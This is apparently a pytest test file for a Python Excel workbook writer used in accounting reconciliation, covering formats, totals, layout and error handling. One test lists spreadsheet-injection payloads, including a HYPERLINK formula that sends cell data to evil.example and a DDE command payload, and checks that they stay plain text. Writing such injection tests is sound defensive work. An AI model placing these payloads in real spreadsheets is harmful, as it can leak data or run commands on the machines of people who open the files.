"""The formatted-workbook writer, read back the way Excel users and openpyxl see it."""

from __future__ import annotations

import datetime as dt
import re
import time
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cuadre.model.tables import ALLOCATIONS, OPEN_ITEMS, Column, Kind, TableSchema
from cuadre.workbook import writer
from cuadre.workbook.writer import (
    ControlRow,
    SheetSpec,
    column_ref,
    money_format,
    write_workbook,
)
from golden_util import sheet_snapshot

MONEY2 = "#,##0.00;[Red]-#,##0.00"
MONEY0 = "#,##0;[Red]-#,##0"
MONEY3 = "#,##0.000;[Red]-#,##0.000"

LEDGER = TableSchema(
    name="ledger",
    sheet="Ledger",
    columns=(
        Column("doc", Kind.TEXT),
        Column("posted", Kind.DATE),
        Column("currency", Kind.CURRENCY),
        Column("amount", Kind.MONEY),
        Column("days", Kind.INT),
        Column("score", Kind.RATIO),
        Column("status", Kind.ENUM, allowed=("open", "paid")),
    ),
)


def ledger(rows: list[tuple]) -> pd.DataFrame:
    frame = pd.DataFrame(rows, columns=LEDGER.names)
    return frame.astype(
        {
            "doc": "str",
            "posted": "datetime64[ns]",
            "currency": "str",
            "amount": "Int64",
            "days": "Int64",
            "score": "float64",
            "status": "str",
        }
    )


SAMPLE = [
    ("FAC-1", "2024-01-31", "MXN", 123456, 30, 0.95, "open"),
    ("FAC-2", "2024-02-29", "JPY", 1234, 0, 1.0, "paid"),
    ("FAC-3", "2024-03-01", "KWD", -1234567, 91, 0.5, "open"),
    ("FAC-4", None, "USD", None, None, np.nan, None),
]


def unescape(text: str) -> str:
    """Undo the OOXML ``_xHHHH_`` escape of control characters (Excel undoes it on open)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def header_row_of(ws) -> int:
    (table,) = ws.tables.values()
    return int(re.match(r"[A-Z]+(\d+)", table.ref).group(1))


def write_one(path: Path, spec: SheetSpec, **kwargs) -> Path:
    write_workbook(path, [spec], **kwargs)
    return path


def cells_by_header(ws, row: int) -> dict[str, openpyxl.cell.cell.Cell]:
    hdr = header_row_of(ws)
    return {ws.cell(hdr, c).value: ws.cell(row, c) for c in range(1, ws.max_column + 1)}


@pytest.fixture
def ledger_book(tmp_path: Path) -> Path:
    spec = SheetSpec(
        "Ledger",
        "ledger",
        ledger(SAMPLE),
        LEDGER,
        title="Ledger",
        subtitle="Test sheet",
        totals=("amount", "days"),
    )
    return write_one(tmp_path / "ledger.xlsx", spec)


def test_money_is_formatted_per_currency(ledger_book: Path) -> None:
    ws = openpyxl.load_workbook(ledger_book)["Ledger"]
    hdr = header_row_of(ws)
    got = {}
    for r in range(hdr + 1, hdr + 5):
        row = cells_by_header(ws, r)
        got[row["currency"].value] = (row["amount"].value, row["amount"].number_format)
    assert got["MXN"] == (1234.56, MONEY2)
    assert got["JPY"] == (1234, MONEY0)
    assert got["KWD"] == (-1234.567, MONEY3)
    assert got["USD"][0] is None  # missing amount: empty cell


def test_money_without_currency_column_has_two_decimals(tmp_path: Path) -> None:
    schema = TableSchema("t", "T", (Column("amount", Kind.MONEY),))
    frame = pd.DataFrame({"amount": pd.array([105, -5, None], dtype="Int64")})
    path = write_one(tmp_path / "t.xlsx", SheetSpec("T", "t", frame, schema))
    ws = openpyxl.load_workbook(path)["T"]
    hdr = header_row_of(ws)
    assert [(ws.cell(r, 1).value, ws.cell(r, 1).number_format) for r in (hdr + 1, hdr + 2)] == [
        (1.05, MONEY2),
        (-0.05, MONEY2),
    ]
    assert ws.cell(hdr + 3, 1).value is None


def test_money_uses_the_schema_currency_column(tmp_path: Path) -> None:
    schema = TableSchema(
        "t",
        "T",
        (
            Column("ccy", Kind.CURRENCY),
            Column("fee", Kind.MONEY, currency_column="ccy"),
            Column("odd", Kind.MONEY),  # no "currency" column in the frame: exponent 2
        ),
    )
    frame = pd.DataFrame(
        {
            "ccy": ["JPY", "XXZ"],  # XXZ is no currency: exponent 2
            "fee": pd.array([500, 500], dtype="Int64"),
            "odd": pd.array([500, 500], dtype="Int64"),
        }
    )
    path = write_one(tmp_path / "t.xlsx", SheetSpec("T", "t", frame, schema))
    ws = openpyxl.load_workbook(path)["T"]
    hdr = header_row_of(ws)
    assert (ws.cell(hdr + 1, 2).value, ws.cell(hdr + 1, 2).number_format) == (500, MONEY0)
    assert (ws.cell(hdr + 2, 2).value, ws.cell(hdr + 2, 2).number_format) == (5, MONEY2)
    assert ws.cell(hdr + 1, 3).value == 5


def test_money_format_strings() -> None:
    assert money_format(2) == MONEY2
    assert money_format(0) == MONEY0
    assert money_format(3) == MONEY3
    assert money_format(4) == "#,##0.0000;[Red]-#,##0.0000"


def test_formats_by_kind(ledger_book: Path) -> None:
    ws = openpyxl.load_workbook(ledger_book)["Ledger"]
    row = cells_by_header(ws, header_row_of(ws) + 1)
    assert row["doc"].value == "FAC-1" and row["doc"].number_format == "@"
    assert row["posted"].value == dt.datetime(2024, 1, 31)
    assert row["posted"].number_format == "yyyy-mm-dd"
    assert row["currency"].number_format == "@"
    assert row["status"].number_format == "@"
    assert (row["days"].value, row["days"].number_format) == (30, "0")
    assert (row["score"].value, row["score"].number_format) == (0.95, "0.00")


def test_missing_values_give_empty_cells(ledger_book: Path) -> None:
    ws = openpyxl.load_workbook(ledger_book)["Ledger"]
    row = cells_by_header(ws, header_row_of(ws) + 4)
    assert row["doc"].value == "FAC-4"
    for name in ("posted", "amount", "days", "score", "status"):
        assert row[name].value is None, name


def test_nan_nat_and_none_in_object_columns(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "mixed": pd.Series([None, np.nan, pd.NaT, pd.NA, "", "x", 7, 2.5], dtype=object),
            "when": pd.Series([pd.NaT, dt.datetime(2024, 5, 1)] + [pd.NaT] * 6),
        }
    )
    path = write_one(tmp_path / "t.xlsx", SheetSpec("T", "t", frame))
    ws = openpyxl.load_workbook(path)["T"]
    hdr = header_row_of(ws)
    values = [ws.cell(hdr + 1 + i, 1).value for i in range(8)]
    assert values == [None, None, None, None, None, "x", 7, 2.5]
    assert ws.cell(hdr + 1 + 5, 1).data_type == "s"
    assert ws.cell(hdr + 1 + 6, 1).data_type == "n"
    assert ws.cell(hdr + 1, 2).value is None
    assert ws.cell(hdr + 2, 2).value == dt.datetime(2024, 5, 1)
    assert ws.cell(hdr + 2, 2).number_format == "yyyy-mm-dd"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "<b>&amp;</b>",
    " padded ",
]


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_hostile_text_stays_literal(tmp_path: Path, dtype: str) -> None:
    schema = TableSchema("t", "T", (Column("payer", Kind.TEXT),))
    frame = pd.DataFrame(
        {
            "payer": pd.Series(HOSTILE, dtype=dtype),
            "extra": pd.Series(HOSTILE, dtype=dtype),  # not in the schema
        }
    )
    spec = SheetSpec(
        "T",
        "t",
        frame,
        schema,
        title="=1+1",
        subtitle="+SUM(1)",
        controls=(ControlRow("=label", "-value"), ControlRow("@x", "=2+2", check=True)),
        notes=("=note()",),
    )
    path = write_one(tmp_path / "t.xlsx", spec)
    ws = openpyxl.load_workbook(path)["T"]
    hdr = header_row_of(ws)
    for i, text in enumerate(HOSTILE):
        for col in (1, 2):
            cell = ws.cell(hdr + 1 + i, col)
            assert cell.data_type == "s", (text, cell.data_type)
            assert unescape(cell.value) == text
    assert (ws["A1"].value, ws["A1"].data_type) == ("=1+1", "s")
    assert (ws["A2"].value, ws["A2"].data_type) == ("+SUM(1)", "s")
    assert (ws["A4"].value, ws["B4"].value, ws["B4"].data_type) == ("=label", "-value", "s")
    assert (ws["B5"].value, ws["B5"].data_type) == ("=2+2", "s")
    assert (ws["A6"].value, ws["A6"].data_type) == ("=note()", "s")
    # Not one formula element in the sheet: nothing was written as a formula.
    with zipfile.ZipFile(path) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()


def test_tables_have_contract_names_and_ranges(tmp_path: Path) -> None:
    alloc = pd.DataFrame(
        {
            "payment_id": ["P1", "P2"],
            "document_id": ["F1", ""],
            "customer_id": ["C1", ""],
            "currency": ["MXN", "MXN"],
            "amount_applied": pd.array([10000, 0], dtype="Int64"),
            "status": ["auto", "unmatched"],
            "confidence": [1.0, 0.0],
            "reason": ["reference F1", "no candidate"],
            "difference": pd.array([0, 5000], dtype="Int64"),
            "difference_reason": ["", ""],
        }
    )
    sheets = [
        SheetSpec("Matches", "allocations", alloc, ALLOCATIONS, title="Matches"),
        SheetSpec("Items", "open_items", pd.DataFrame({"document_id": ["F1"]}), OPEN_ITEMS),
    ]
    path = tmp_path / "t.xlsx"
    write_workbook(path, sheets)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Matches", "Items"]
    matches = wb["Matches"].tables["allocations"]
    assert matches.ref == "A4:J6"
    assert [c.name for c in matches.tableColumns] == ALLOCATIONS.names
    assert matches.tableStyleInfo.name == "TableStyleMedium2"
    assert matches.autoFilter is not None and matches.autoFilter.ref == "A4:J6"
    assert not matches.totalsRowCount
    assert wb["Items"].tables["open_items"].ref == "A4:A5"


def test_totals_row_sums_with_subtotal(tmp_path: Path, ledger_book: Path) -> None:
    ws = openpyxl.load_workbook(ledger_book)["Ledger"]
    table = ws.tables["ledger"]
    assert table.totalsRowCount == 1
    hdr = header_row_of(ws)
    total_row = hdr + len(SAMPLE) + 1
    assert table.ref == f"A{hdr}:G{total_row}"
    totals = cells_by_header(ws, total_row)
    assert totals["doc"].value == "Total"
    assert totals["amount"].value == "=SUBTOTAL(109,ledger[amount])"
    assert totals["amount"].number_format == MONEY2
    assert totals["days"].value == "=SUBTOTAL(109,ledger[days])"
    cached = cells_by_header(
        openpyxl.load_workbook(ledger_book, data_only=True)["Ledger"], total_row
    )
    # 1234.56 MXN + 1234 JPY - 1234.567 KWD, summed exactly as Excel shows it unfiltered.
    assert cached["amount"].value == pytest.approx(1233.993, abs=1e-9)
    assert cached["days"].value == 121


@pytest.mark.parametrize(
    ("column", "ref"),
    [
        ("amount", "t[amount]"),
        ("1-30", "t[[1-30]]"),
        ("121+", "t[[121+]]"),
        ("Total Amount", "t[[Total Amount]]"),
        ("# items", "t[['# items]]"),
        ("a[b]", "t[[a'[b']]]"),
        ("it's", "t[[it''s]]"),
    ],
)
def test_column_ref_escapes_headers(column: str, ref: str) -> None:
    assert column_ref("t", column) == ref


def test_totals_of_special_headers_use_qualified_double_brackets(tmp_path: Path) -> None:
    schema = TableSchema("aging", "Aging", (Column("1-30", Kind.MONEY), Column("121+", Kind.MONEY)))
    frame = pd.DataFrame({"1-30": pd.array([100], dtype="Int64"), "121+": [pd.NA]}).astype("Int64")
    spec = SheetSpec("Aging", "aging", frame, schema, totals=("1-30", "121+"))
    path = write_one(tmp_path / "t.xlsx", spec)
    live = openpyxl.load_workbook(path)["Aging"]
    cached = openpyxl.load_workbook(path, data_only=True)["Aging"]
    assert (live["A6"].value, live["B6"].value) == (
        "=SUBTOTAL(109,aging[[1-30]])",
        "=SUBTOTAL(109,aging[[121+]])",
    )
    assert (cached["A6"].value, cached["B6"].value) == (1, 0)
    with zipfile.ZipFile(path) as zf:
        table_xml = zf.read("xl/tables/table1.xml").decode()
    assert table_xml.count('totalsRowFunction="sum"') == 2


def test_totals_label_skipped_when_first_column_is_summed(tmp_path: Path) -> None:
    frame = pd.DataFrame({"n": pd.array([1, 2], dtype="Int64"), "t": ["a", "b"]})
    schema = TableSchema("t", "T", (Column("n", Kind.INT), Column("t")))
    path = write_one(tmp_path / "t.xlsx", SheetSpec("T", "t", frame, schema, totals=("n",)))
    ws = openpyxl.load_workbook(path, data_only=True)["T"]
    assert ws.cell(header_row_of(ws) + 3, 1).value == 3


def test_controls_cache_python_values_under_live_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"currency": ["MXN"], "amount": pd.array([150050], dtype="Int64")})
    schema = TableSchema(
        "pay", "Pay", (Column("currency", Kind.CURRENCY), Column("amount", Kind.MONEY))
    )
    controls = (
        ControlRow("Amount in", 150050, formula="=SUBTOTAL(109,pay[amount])", currency="MXN"),
        ControlRow("Amount in JPY", 1500, currency="JPY"),
        ControlRow("Amount in KWD", -1500, currency="KWD"),
        ControlRow("Payments", 1, formula="=ROWS(pay[amount])"),
        ControlRow("Ties out", True, formula='=IF(B4=B4,"OK","DIFFERENCE")', check=True),
        ControlRow("Ledger = GL", False, check=True),
        ControlRow("Note", "text value"),
        ControlRow("As of", dt.date(2024, 1, 31)),
    )
    path = write_one(tmp_path / "t.xlsx", SheetSpec("Pay", "pay", frame, schema, controls=controls))
    live = openpyxl.load_workbook(path)["Pay"]
    cached = openpyxl.load_workbook(path, data_only=True)["Pay"]
    assert live["B4"].value == "=SUBTOTAL(109,pay[amount])"
    assert [cached[f"A{r}"].value for r in range(4, 12)] == [c.label for c in controls]
    assert (cached["B4"].value, cached["B4"].number_format, cached["C4"].value) == (
        1500.5,
        MONEY2,
        "MXN",
    )
    assert (cached["B5"].value, cached["B5"].number_format) == (1500, MONEY0)
    assert (cached["B6"].value, cached["B6"].number_format) == (-1.5, MONEY3)
    assert live["B7"].value == "=ROWS(pay[amount])"
    assert (cached["B7"].value, cached["B7"].number_format) == (1, "General")
    assert live["B8"].value.startswith("=IF(")
    assert cached["B8"].value == "OK"
    assert cached["B8"].fill.fgColor.rgb == "FFC6EFCE"
    assert cached["B9"].value == "DIFFERENCE"
    assert cached["B9"].fill.fgColor.rgb == "FFFFC7CE"
    assert cached["B10"].value == "text value"
    assert (cached["B11"].value, cached["B11"].number_format) == (
        dt.datetime(2024, 1, 31),
        "yyyy-mm-dd",
    )
    # One blank row, then the table.
    assert cached["A12"].value is None
    assert live.tables["pay"].ref == "A13:B14"
    # Live check rows turn red or green again after Excel recalculates.
    assert len(live.conditional_formatting) == 1


def test_control_counts_never_inherit_a_date_column_format(tmp_path: Path) -> None:
    schema = TableSchema("t", "T", (Column("doc"), Column("when", Kind.DATE)))
    frame = pd.DataFrame({"doc": ["a"], "when": pd.to_datetime(["2024-01-01"])})
    spec = SheetSpec("T", "t", frame, schema, controls=(ControlRow("Rows", 1234),))
    ws = openpyxl.load_workbook(write_one(tmp_path / "t.xlsx", spec))["T"]
    assert (ws["B4"].value, ws["B4"].number_format) == (1234, "General")


def test_layout_freeze_panes_and_notes(tmp_path: Path) -> None:
    spec = SheetSpec(
        "T",
        "t",
        pd.DataFrame({"a": ["x"]}),
        title="Title",
        subtitle="What this is",
        controls=(ControlRow("Rows", 1),),
        notes=("First note.", "Second note."),
    )
    wb = openpyxl.load_workbook(write_one(tmp_path / "t.xlsx", spec))
    ws = wb["T"]
    assert [ws[f"A{r}"].value for r in range(1, 9)] == [
        "Title",
        "What this is",
        None,
        "Rows",
        "First note.",
        "Second note.",
        None,
        "a",
    ]
    assert ws["A1"].font.b and ws["A1"].font.sz == 14
    assert ws.freeze_panes == "A9"
    assert ws.tables["t"].ref == "A8:A9"


def test_without_controls_the_table_follows_one_blank_row(tmp_path: Path) -> None:
    spec = SheetSpec("T", "t", pd.DataFrame({"a": ["x"]}), title="Title", subtitle="Sub")
    ws = openpyxl.load_workbook(write_one(tmp_path / "t.xlsx", spec))["T"]
    assert ws.tables["t"].ref == "A4:A5"
    assert ws.freeze_panes == "A5"


@pytest.mark.parametrize("totals", [(), ("amount",)])
def test_empty_frame_gives_a_valid_table(tmp_path: Path, totals: tuple[str, ...]) -> None:
    frame = ledger([]).iloc[0:0]
    spec = SheetSpec("Ledger", "ledger", frame, LEDGER, totals=totals)
    path = write_one(tmp_path / "t.xlsx", spec)
    ws = openpyxl.load_workbook(path)["Ledger"]
    table = ws.tables["ledger"]
    assert table.ref == ("A4:G5" if not totals else "A4:G6")
    assert [c.name for c in table.tableColumns] == LEDGER.names
    assert all(ws.cell(5, c).value is None for c in range(1, 8))
    if totals:
        cached = openpyxl.load_workbook(path, data_only=True)["Ledger"]
        assert cached["D6"].value == 0
        assert cached["A6"].value == "Total"


def test_column_widths_fit_content_or_are_given(tmp_path: Path) -> None:
    frame = pd.DataFrame({"short": ["a"], "long": ["x" * 200], "given": ["y"]})
    spec = SheetSpec("T", "t", frame, column_widths={"given": 33.0})
    ws = openpyxl.load_workbook(write_one(tmp_path / "t.xlsx", spec))["T"]
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] < 15
    assert 55 < widths["B"] < 65  # capped
    assert widths["C"] == pytest.approx(33.0, abs=1)


def test_sheet_kinds_have_distinct_tab_colours_and_properties(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": ["x"]})
    sheets = [
        SheetSpec("In", "t_in", frame, kind="input"),
        SheetSpec("Out", "t_out", frame, kind="output"),
        SheetSpec("Info", "t_info", frame, kind="info"),
    ]
    path = tmp_path / "t.xlsx"
    write_workbook(path, sheets, properties={"title": "Close 2024-01", "reviewer": "MG"})
    wb = openpyxl.load_workbook(path)
    colours = [wb[name].sheet_properties.tabColor.rgb for name in ("In", "Out", "Info")]
    assert len(set(colours)) == 3
    assert wb.properties.title == "Close 2024-01"
    with zipfile.ZipFile(path) as zf:
        assert "<Company>Cuadre</Company>" in zf.read("docProps/app.xml").decode()
        assert "reviewer" in zf.read("docProps/custom.xml").decode()


def test_dates_before_1900_03_01_are_written_as_text(tmp_path: Path) -> None:
    frame = ledger([("A", "1899-12-31", "MXN", 1, 1, 0.1, "open")])
    path = write_one(tmp_path / "t.xlsx", SheetSpec("Ledger", "ledger", frame, LEDGER))
    ws = openpyxl.load_workbook(path)["Ledger"]
    cell = ws.cell(header_row_of(ws) + 1, 2)
    assert (cell.value, cell.data_type) == ("1899-12-31", "s")


def test_unparsed_values_in_typed_columns_are_kept(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "doc": [12, 3.0],  # numbers in a text column: written as text
            "posted": ["31/01/2024", dt.date(2024, 2, 1)],  # not parsed: kept
            "currency": ["MXN", "MXN"],
            "amount": ["1.234,50", 100],  # not a number: kept as text
            "days": ["n/a", 4],
            "score": [0.5, "high"],
            "status": ["open", "open"],
        }
    )
    path = write_one(tmp_path / "t.xlsx", SheetSpec("Ledger", "ledger", frame, LEDGER))
    ws = openpyxl.load_workbook(path)["Ledger"]
    r1 = cells_by_header(ws, header_row_of(ws) + 1)
    r2 = cells_by_header(ws, header_row_of(ws) + 2)
    assert (r1["doc"].value, r2["doc"].value) == ("12", "3")
    assert r1["posted"].value == "31/01/2024"
    assert r2["posted"].value == dt.datetime(2024, 2, 1)
    assert (r1["amount"].value, r2["amount"].value) == ("1.234,50", 1)
    assert (r1["days"].value, r2["days"].value) == ("n/a", 4)
    assert (r1["score"].value, r2["score"].value) == (0.5, "high")


def test_atomic_write_leaves_destination_untouched_on_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dest = tmp_path / "close.xlsx"
    dest.write_bytes(b"previous workbook")
    good = SheetSpec("A", "a", pd.DataFrame({"x": ["1"]}))
    bad_name = SheetSpec("B", "B12", pd.DataFrame({"x": ["1"]}))  # looks like a cell
    with pytest.raises(ValueError, match="B12"):
        write_workbook(dest, [good, bad_name])
    assert dest.read_bytes() == b"previous workbook"

    def boom(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(writer, "_write_sheet", boom)
    with pytest.raises(RuntimeError, match="disk on fire"):
        write_workbook(dest, [good])
    assert dest.read_bytes() == b"previous workbook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["close.xlsx"]  # no temp files left


@pytest.mark.parametrize(
    ("sheets", "message"),
    [
        ([], "at least one sheet"),
        (
            [SheetSpec("A", "a", pd.DataFrame({"x": [1]})), SheetSpec("a", "b", pd.DataFrame())],
            "sheet name",
        ),
        (
            [SheetSpec("A", "t", pd.DataFrame({"x": [1]})), SheetSpec("B", "T", pd.DataFrame())],
            "table name",
        ),
        ([SheetSpec("A", "a", pd.DataFrame())], "no columns"),
        ([SheetSpec("A", "a", pd.DataFrame({"x": [1]}), totals=("y",))], "unknown columns"),
        ([SheetSpec("A", "a", pd.DataFrame({"x": [1]}), kind="result")], "kind"),
        ([SheetSpec("A", "a", pd.DataFrame([[1, 2]], columns=["X", "x"]))], "unique"),
    ],
)
def test_programmer_errors_are_raised(tmp_path: Path, sheets, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        write_workbook(tmp_path / "t.xlsx", sheets)
    assert not (tmp_path / "t.xlsx").exists()


def test_fast_cells_write_the_same_xml_as_xlsxwriter(tmp_path: Path) -> None:
    frame = ledger(SAMPLE * 20)
    frame.loc[3, "doc"] = "=1+1"
    frame["note"] = pd.Series([1, "two", None, 4.5] * 20, dtype=object)
    spec = SheetSpec(
        "Ledger",
        "ledger",
        frame,
        LEDGER,
        title="T",
        totals=("amount",),
        controls=(ControlRow("Total", 5, formula="=SUBTOTAL(109,ledger[amount])", currency="MXN"),),
    )
    props = {"created": "2024-01-01T00:00:00"}
    write_workbook(tmp_path / "fast.xlsx", [spec], properties=props)
    write_workbook(tmp_path / "slow.xlsx", [spec], properties=props, _fast=False)
    with (
        zipfile.ZipFile(tmp_path / "fast.xlsx") as fast,
        zipfile.ZipFile(tmp_path / "slow.xlsx") as slow,
    ):
        assert fast.namelist() == slow.namelist()
        for name in fast.namelist():
            expected = slow.read(name)
            if name.startswith("xl/worksheets/sheet"):
                # Row spans are an optional hint the fast path leaves out.
                expected = re.sub(rb' spans="\d+:\d+"', b"", expected)
            assert fast.read(name) == expected, name
    assert sheet_snapshot(tmp_path / "fast.xlsx", "Ledger") == sheet_snapshot(
        tmp_path / "slow.xlsx", "Ledger"
    )


@pytest.mark.slow
def test_100k_rows_by_12_columns_is_fast(tmp_path: Path) -> None:
    n = 100_000
    rng = np.random.default_rng(7)
    frame = pd.DataFrame(
        {
            "customer_id": [f"C{i % 5000:05d}" for i in range(n)],
            "customer_name": [f"Cliente {i % 5000} SA de CV" for i in range(n)],
            "document_id": [f"FAC-{i}" for i in range(n)],
            "document_type": rng.choice(["invoice", "credit_note"], n),
            "document_date": pd.Timestamp("2024-01-01")
            + pd.to_timedelta(rng.integers(0, 365, n), "D"),
            "due_date": pd.Timestamp("2024-02-01") + pd.to_timedelta(rng.integers(0, 365, n), "D"),
            "currency": rng.choice(["MXN", "USD", "JPY", "KWD"], n),
            "amount_open": pd.array(rng.integers(-(10**7), 10**8, n), dtype="Int64"),
            "amount_original": pd.array(rng.integers(-(10**7), 10**8, n), dtype="Int64"),
            "reference": [f"PO {i}" for i in range(n)],
            "tax_id": [f"RFC{i:09d}" for i in range(n)],
            "fiscal_uuid": [f"{i:08x}-aaaa-bbbb-cccc-dddddddddddd" for i in range(n)],
        }
    ).astype({c: "str" for c in ("customer_id", "customer_name", "document_id", "reference")})
    spec = SheetSpec("OpenItems", "open_items", frame, OPEN_ITEMS, totals=("amount_open",))
    start = time.perf_counter()
    write_workbook(tmp_path / "big.xlsx", [spec])
    elapsed = time.perf_counter() - start
    # About 7 s on a slow 2-core box (12 s through xlsxwriter's per-cell API).
    assert elapsed < 30, f"{elapsed:.1f} s"
